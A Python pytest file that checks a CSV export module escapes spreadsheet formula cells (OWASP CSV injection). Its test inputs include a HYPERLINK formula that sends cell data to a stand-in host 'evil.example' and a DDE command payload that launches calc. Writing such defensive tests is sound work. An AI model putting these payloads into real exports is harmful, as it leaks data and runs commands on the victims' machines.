"""Cells that would run as formulas in a spreadsheet are written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from minefree.core.exports import SafeCsvWriter, is_formula_like, neutralise


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Details")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ],
)
def test_formula_text_gets_a_leading_apostrophe(text: str):
    assert is_formula_like(text)
    assert neutralise(text) == f"'{text}"


@pytest.mark.parametrize("value", ["-5", "+3.5", "12", "Peru", "", None, 7, Decimal("-1.5"), "a=b"])
def test_numbers_and_plain_text_are_left_alone(value: object):
    assert neutralise(value) == value


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["=1+1", "-5", 3, "ok"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "-5", "3", "ok"]
